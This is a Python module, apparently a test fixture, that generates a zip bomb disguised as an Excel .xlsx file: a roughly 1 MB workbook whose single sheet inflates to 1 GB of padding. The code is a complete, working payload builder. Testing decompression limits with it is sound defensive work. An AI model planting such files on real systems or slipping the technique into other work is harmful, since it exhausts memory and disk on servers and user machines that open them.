"""A zip bomb shaped as an .xlsx: a workbook of about 1 MB whose one sheet inflates to 1 GB.

Built in well under a second: the sheet's padding is one block of spaces deflated once and
repeated (a full flush resets the compressor, so each repeat compresses to the same bytes),
and the zip is written by hand around the ready-made stream.
"""

import struct
import zlib
from functools import cache

GB = 1024**3
CHUNK = 1024 * 1024
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"
PARTS = {
    "[Content_Types].xml": (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" '
        b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Default Extension="xml" ContentType="application/xml"/>'
        b'<Override PartName="/xl/workbook.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Target="xl/workbook.xml" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/officeDocument"/></Relationships>'
    ),
    "xl/workbook.xml": (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<sheets><sheet name="Danh sach" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>'
    ),
}


def _deflate(data):
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _padded_sheet(inflated):
    """(deflated sheet, its CRC-32) for a sheet of exactly ``inflated`` bytes."""
    padding = inflated - len(SHEET_HEAD) - len(SHEET_TAIL)
    repeats, rest = divmod(padding, CHUNK)
    chunk = b" " * CHUNK
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(SHEET_HEAD) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(b" " * rest + SHEET_TAIL) + compressor.flush()
    crc = zlib.crc32(SHEET_HEAD)
    for _ in range(repeats):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(b" " * rest + SHEET_TAIL, crc)
    return head + block * repeats + end, crc


@cache
def zip_bomb_xlsx(inflated=GB):
    """The bytes of an .xlsx whose sheet XML inflates to ``inflated`` bytes (1 GB by default)."""
    entries = [(name, _deflate(data), zlib.crc32(data), len(data)) for name, data in PARTS.items()]
    sheet, crc = _padded_sheet(inflated)
    entries.append(("xl/worksheets/sheet1.xml", sheet, crc, inflated))
    body, directory = bytearray(), bytearray()
    for name, data, crc, size in entries:
        encoded = name.encode()
        fields = (20, 0, zlib.DEFLATED, 0, 0x21, crc, len(data), size, len(encoded))
        directory += struct.pack("<IH", 0x02014B50, 20)
        directory += struct.pack("<HHHHHIIIH", *fields)
        directory += struct.pack("<HHHHII", 0, 0, 0, 0, 0, len(body)) + encoded
        body += struct.pack("<I", 0x04034B50) + struct.pack("<HHHHHIIIH", *fields)
        body += struct.pack("<H", 0) + encoded + data
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(body), 0
    )
    return bytes(body + directory + end)
